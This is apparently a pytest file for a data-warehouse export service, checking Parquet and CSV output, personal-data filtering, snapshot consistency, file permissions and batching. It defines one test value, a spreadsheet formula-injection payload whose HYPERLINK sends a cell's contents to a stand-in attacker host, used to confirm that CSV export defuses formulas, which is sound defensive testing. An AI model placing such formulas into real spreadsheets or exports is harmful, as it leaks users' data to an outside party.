"""Tables and views become files that say the same as the warehouse, on both databases."""

import csv
import json
import stat
import threading
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from sqlalchemy import JSON, Engine, String, event, func, select, update

from integrations.runtime.database import reading, transaction
from integrations.runtime.errors import BadInput
from sync.exports import service
from sync.exports.cells import restored
from sync.exports.parquet_file import arrow_type
from sync.exports.relation import RAW, Relation, Wanted, chosen
from sync.exports.service import Format, Order, export
from sync.warehouse.tables.history import ticket_comments
from sync.warehouse.tables.people import users
from sync.warehouse.tables.tickets import ticket_metrics, tickets
from sync.warehouse.views.creation import VIEWS
from tests.support.warehouse import WEI, hour, put, put_metrics, put_people, put_ticket, seen

ATTACK = '=HYPERLINK("http://evil.example/?"&A1;"退款")\n=1+1'


def order(folder: Path, *names: str, **options: Any) -> Order:
    return Order(relations=chosen(names), folder=folder, **options)


def read_parquet(folder: Path, name: str) -> pa.Table:
    return pq.read_table(folder / f"{name}.parquet")


def read_csv(folder: Path, name: str) -> list[dict[str, str]]:
    with (folder / f"{name}.csv").open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return tmp_path / "out"


@pytest.fixture
def desk(any_engine: Engine) -> Engine:
    put_people(any_engine)
    put_ticket(
        any_engine,
        1,
        subject=ATTACK,
        description="",
        is_public=True,
        custom_fields=[{"id": 9_007_199_254_740_993, "value": "退款"}],
        created_at=datetime(2025, 3, 3, 12, 0, 0, 123456, tzinfo=UTC),
        raw={"subject": ATTACK},
    )
    put_ticket(any_engine, 2, subject=None, deleted_at=hour(1), updated_at=hour(5))
    put_metrics(any_engine, 1, reply_time_minutes=-3)
    return any_engine


def test_parquet_keeps_types_and_values(desk: Engine, folder: Path) -> None:
    export(desk, order(folder, "tickets"))
    table = read_parquet(folder, "tickets").sort_by("id")

    assert table.schema.field("id").type == pa.int64()
    assert table.schema.field("created_at").type == pa.timestamp("us", tz="UTC")
    assert table.schema.field("is_public").type == pa.bool_()
    assert table.schema.field("custom_fields").type == pa.string()
    assert table.schema.field("id").metadata == {b"comment": b"ticket number"}
    first, second = table.to_pylist()
    assert first["subject"] == ATTACK
    assert (first["description"], first["is_public"]) == ("", True)
    assert first["created_at"] == datetime(2025, 3, 3, 12, 0, 0, 123456, tzinfo=UTC)
    assert first["custom_fields"] == '[{"id":9007199254740993,"value":"退款"}]'
    assert (second["subject"], second["deleted_at"]) == (None, hour(1))


@pytest.mark.parametrize("relation", chosen(None), ids=lambda one: one.name)
def test_every_column_has_a_type_that_takes_its_values(relation: Relation) -> None:
    for field in relation.exported(Wanted.EVERYTHING):
        kind = arrow_type(field.type)
        assert (kind == pa.string()) == isinstance(field.type, JSON | String), field.name


def test_csv_defuses_texts_and_leaves_numbers_alone(desk: Engine, folder: Path) -> None:
    export(desk, order(folder, "tickets", "ticket_metrics", format=Format.CSV))
    first = next(row for row in read_csv(folder, "tickets") if row["id"] == "1")
    (metrics,) = read_csv(folder, "ticket_metrics")

    assert first["subject"].startswith("'=HYPERLINK")
    assert "\n'=1+1" in first["subject"]
    assert restored(first["subject"]) == ATTACK
    assert metrics["reply_time_minutes"] == "-3"
    assert first["created_at"] == "2025-03-03T12:00:00.123456Z"
    assert first["is_public"] == "true"


def test_csv_tells_an_empty_text_from_no_value(desk: Engine, folder: Path) -> None:
    put_ticket(desk, 3, subject="", description=None)
    export(desk, order(folder, "open_tickets", format=Format.CSV))
    lines = (folder / "open_tickets.csv").read_bytes().split(b"\r\n")

    (line,) = (one for one in lines if one.startswith(b"3,"))
    assert line.startswith(b'3,"","open","normal",,501,"Risk Control",,,')


def test_csv_begins_with_a_byte_order_mark_when_asked(desk: Engine, folder: Path) -> None:
    export(desk, order(folder, "groups", format=Format.CSV, mark=True))

    assert (folder / "groups.csv").read_bytes().startswith(b'\xef\xbb\xbf"id","name"')


@pytest.mark.parametrize("form", list(Format))
def test_everything_there_is_can_be_exported_with_its_columns(
    desk: Engine, folder: Path, form: Format
) -> None:
    files = export(desk, order(folder, format=form, wanted=Wanted.EVERYTHING))

    names = {one.table for one in files}
    assert set(VIEWS) | {"tickets", "users", "quarantined_records", "sla_clocks"} <= names
    assert {path.name for path in folder.iterdir()} == {f"{name}.{form}" for name in names}
    rows = {one.table: one.rows for one in files}
    assert (rows["tickets"], rows["open_tickets"], rows["users"]) == (2, 1, 3)


def test_raw_records_stay_here_unless_they_are_asked_for(desk: Engine, folder: Path) -> None:
    export(desk, order(folder / "plain", "tickets"))
    export(desk, order(folder / "all", "tickets", wanted=Wanted.EVERYTHING))

    assert RAW not in read_parquet(folder / "plain", "tickets").column_names
    (raw, _) = read_parquet(folder / "all", "tickets").sort_by("id")[RAW].to_pylist()
    assert json.loads(raw) == {"subject": ATTACK}


def test_nothing_personal_leaves_when_that_is_asked_for(desk: Engine, folder: Path) -> None:
    with transaction(desk) as connection:
        connection.execute(update(users).values(email="wei@example.com", phone="+49 30 1234567"))
    said = {"id": 1, "ticket_id": 1, "audit_id": 1, "author_id": WEI, "public": True}
    put(desk, ticket_comments, said | {"body": "I am Wei Chen", "attachments": []})

    export(desk, order(folder, format=Format.CSV, wanted=Wanted.NOTHING_PERSONAL))

    everything = b"".join(path.read_bytes() for path in folder.iterdir()).decode()
    leaks = [w for w in ("Wei Chen", "wei@", "1234567", "HYPERLINK", "退款") if w in everything]
    assert leaks == []
    assert '"Risk Control"' in everything, "names of groups are not personal"


def test_a_span_of_time_is_about_when_rows_changed(desk: Engine, folder: Path) -> None:
    names = ("tickets", "backlog")
    (first, second) = export(desk, order(folder, *names, since=hour(0), until=hour(5)))
    (later, _) = export(desk, order(folder, *names, since=hour(5), replace=True))

    assert (first.table, first.rows, first.time_column) == ("tickets", 1, "updated_at")
    assert (second.table, second.rows, second.time_column) == ("backlog", 1, None)
    assert later.rows == 1


def test_all_files_show_one_moment_though_somebody_writes(desk: Engine, folder: Path) -> None:
    wrote = threading.Event()

    def write_meanwhile(name: str, _rows: int) -> None:
        if name == "tickets" and not wrote.is_set():
            writer = threading.Thread(target=put_ticket, args=(desk, 99))
            writer.start()
            writer.join(timeout=60)
            wrote.set()

    files = export(desk, order(folder, "tickets", "open_tickets"), progress=write_meanwhile)

    assert wrote.is_set()
    assert [one.rows for one in files] == [2, 1]
    assert len(seen(desk, "open_tickets", "ticket_id")) == 2, "it was stored meanwhile"


def test_files_that_are_there_are_not_replaced_unasked(desk: Engine, folder: Path) -> None:
    folder.mkdir()
    (folder / "users.parquet").write_text("mine")

    with pytest.raises(BadInput, match=r"users\.parquet exists already"):
        export(desk, order(folder, "groups", "users"))

    assert [path.name for path in folder.iterdir()] == ["users.parquet"]
    export(desk, order(folder, "groups", "users", replace=True))
    assert read_parquet(folder, "users").num_rows == 3


def test_an_export_that_breaks_leaves_no_file(desk: Engine, folder: Path) -> None:
    def break_off(name: str, _rows: int) -> None:
        if name == "users":
            raise OSError(28, "No space left on device")

    with pytest.raises(BadInput, match="No space left on device"):
        export(desk, order(folder, "groups", "users"), progress=break_off)

    assert list(folder.iterdir()) == []


def test_only_the_owner_reads_the_files(desk: Engine, folder: Path) -> None:
    for form in Format:
        export(desk, order(folder, "users", format=form))

    modes = {stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()}
    assert modes == {0o600}


def test_rows_come_in_batches_that_the_database_keeps(
    any_engine: Engine, folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(service, "BATCH_ROWS", 10)
    put_people(any_engine)
    for ticket_id in range(25):
        put_ticket(any_engine, ticket_id)
    named_cursors: list[Any] = []
    event.listen(
        any_engine,
        "before_cursor_execute",
        lambda _connection, cursor, *_rest: named_cursors.append(getattr(cursor, "name", None)),
    )
    told: list[int] = []

    export(any_engine, order(folder, "tickets"), progress=lambda _name, rows: told.append(rows))

    assert told == [10, 20, 25]
    if any_engine.dialect.name == "postgresql":
        assert named_cursors[-1], "without a name the server sends all rows at once"


def test_parquet_and_csv_hold_the_same_ids_as_the_table(desk: Engine, folder: Path) -> None:
    for form in Format:
        export(desk, order(folder, "tickets", "ticket_metrics", format=form))
    with reading(desk) as connection:
        total = connection.scalar(select(func.sum(tickets.c.id)))
        assert connection.scalar(select(func.count()).select_from(ticket_metrics)) == 1

    assert sum(read_parquet(folder, "tickets")["id"].to_pylist()) == total
    assert sum(int(row["id"]) for row in read_csv(folder, "tickets")) == total


def test_an_unknown_table_is_answered_with_those_there_are() -> None:
    with pytest.raises(BadInput, match="no table or view named tikets") as caught:
        chosen(["tikets"])

    assert "open_tickets" in caught.value.hint
